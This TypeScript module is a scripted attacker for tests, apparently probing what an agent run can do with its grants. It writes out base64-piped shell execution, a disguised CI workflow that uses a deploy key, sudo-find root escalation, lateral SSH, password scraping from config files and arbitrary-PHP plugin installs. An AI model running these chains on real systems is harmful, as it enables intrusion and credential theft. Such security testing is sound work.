/**
 * A scripted attacker: what somebody does who sits in a run of the company's task and has nothing but its grants.
 * Each function takes one step further than the one it is built on.
 *
 * @module
 */
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import type { ApprovalInfo } from "../../src/api/index.ts";
import { eventually } from "../support/home.ts";
import { LivingRun } from "../support/living-run.ts";
import { readFileSync } from "node:fs";
import type { Company } from "./company.ts";
import { WEB } from "./machines.ts";

/** Runs `script` by sh somewhere; what it printed. */
export type Shell = (script: string) => Promise<string>;

const decoded = (script: string) => `echo ${Buffer.from(script).toString("base64")} | base64 -d`;
const wrapped = (script: string) => `${decoded(script)} | sh`;

export class Attacker {
  readonly #company: Company;
  readonly #run: LivingRun;
  #steps = 0;

  private constructor(company: Company, run: LivingRun) {
    this.#company = company;
    this.#run = run;
  }

  /** Starts a run that holds every grant; a way uses those of its task alone. */
  static async start(company: Company): Promise<Attacker> {
    const task = readFileSync(company.taskFile("all"), "utf8");
    return new Attacker(company, await LivingRun.start(company.home, task, { a: "bash" }));
  }

  end(): Promise<string> {
    return this.#run.end();
  }

  /** In the sandbox. */
  readonly inside: Shell = async (script) => {
    this.#steps += 1;
    const mark = `over-${this.#steps}-`;
    this.#run.say("a", `( ${wrapped(script)} ) </dev/null 2>&1; echo ${mark}`);
    const heard = await this.#run.hears(new RegExp(`^a: .*${mark}$`, "m"));
    return heard.replaceAll(/^a: /gm, "").replace(mark, "");
  };

  /** As deploy on web1, by the grant `web`. */
  readonly bySsh: Shell = (script) =>
    this.inside(`ssh web.example 'sh -c "eval \\"\\$(${decoded(script)})\\""'`);

  /** As deploy on web1, by a workflow that is pushed and run with the key of CI. */
  readonly byCi: Shell = async (script) => {
    const ssh = `ssh -o StrictHostKeyChecking=no -i k deploy@${WEB} '${wrapped(script)}' 2>&1`;
    const step = `printf '%s\\n' "$DEPLOY_KEY" >k; chmod 600 k; ${ssh}`;
    await this.push(step);
    return this.#company.ciLog();
  };

  /** Has CI run one command of sh. */
  async push(step: string): Promise<void> {
    const text = `on: push\njobs:\n  x:\n    steps:\n      - run: cd ~; ${step}\n`;
    const body = JSON.stringify({
      ...{ message: "tidy up", branch: "main" },
      content: Buffer.from(text).toString("base64"),
    });
    const path = `repos/acme/site/contents/.github/workflows/${randomUUID()}.yml`;
    const told = await this.inside(
      `curl -sS -w ' %{http_code}' -X PUT -H 'content-type: application/json' http://api.github.com/${path} -d '${body}'`,
    );
    assert.match(told, / 201/, told);
  }

  /** As root on web1, where deploy may have find run as root. */
  static asRoot(shell: Shell): Shell {
    return (script) => shell(`sudo -n find /etc/hostname -exec sh -c '${wrapped(script)}' ';'`);
  }

  /** As keeper on db1, by the key in the home of deploy. */
  static asKeeper(shell: Shell): Shell {
    return (script) => shell(`ssh db1 '${wrapped(script)}' 2>/dev/null`);
  }

  /** SQL as the owner of PostgreSQL, which keeper may have psql run as. */
  static asOwner(shell: Shell): Shell {
    const keeper = Attacker.asKeeper(shell);
    return (sql) => keeper(`cd /; sudo -n -u postgres psql -X -Atc "${sql}" shop`);
  }

  /** SQL as agent, by the password in .pgpass. */
  static asAgent(shell: Shell): Shell {
    return (sql) => shell(`psql -X -At -h 10.9.0.20 -U agent -c "${sql}" shop`);
  }

  /** SQL of MariaDB by a password that `file` gives away. */
  static inMariadb(shell: Shell, file: string, user: string): Shell {
    const password = `$(sed -n "s/.*DB_PASSWORD[\\"', =]*\\([A-Za-z0-9-]*\\).*/\\1/p" ${file})`;
    return (sql) =>
      shell(`mariadb --no-defaults -h ${WEB} -u ${user} -p"${password}" -N -B -e "${sql}"`);
  }

  /** Installs a plugin that runs `php`; a person is asked, and says yes. */
  async plugin(php: string): Promise<void> {
    const slug = `p${randomUUID().slice(0, 8)}`;
    // Whoever writes plugins publishes them at wordpress.org.
    this.#company.web.run(`cd /tmp && mkdir ${slug} && cat >${slug}/${slug}.php <<'PHP'
<?php /* Plugin Name: ${slug} */
${php}
PHP
python3 -m zipfile -c /srv/directory/${slug}.zip ${slug}; chmod 644 /srv/directory/*.zip`);
    const asked = this.inside(
      `curl -sS -H 'content-type: application/json' http://blog.example/wp-json/wp/v2/plugins -d '{"slug":"${slug}","status":"active"}'`,
    );
    await this.#approve(/plugin/i);
    const told = await asked;
    assert.match(told, /"status":"active"/, told);
  }

  async #approve(summary: RegExp): Promise<void> {
    const { home } = this.#company;
    const { id } = await eventually("a card", 30_000, async () => {
      const { stdout } = await home.call(["approvals", "list", "--json"]);
      const all = JSON.parse(stdout) as readonly ApprovalInfo[];
      return all.find((one) => one.state === "requested" && summary.test(one.summary));
    });
    await home.call(["approvals", "show", id]);
    const code = await home.codeOf(id);
    const done = await home.call(["approvals", "approve", id, "--code", code]);
    assert.equal(done.code, 0, done.stderr);
  }
}
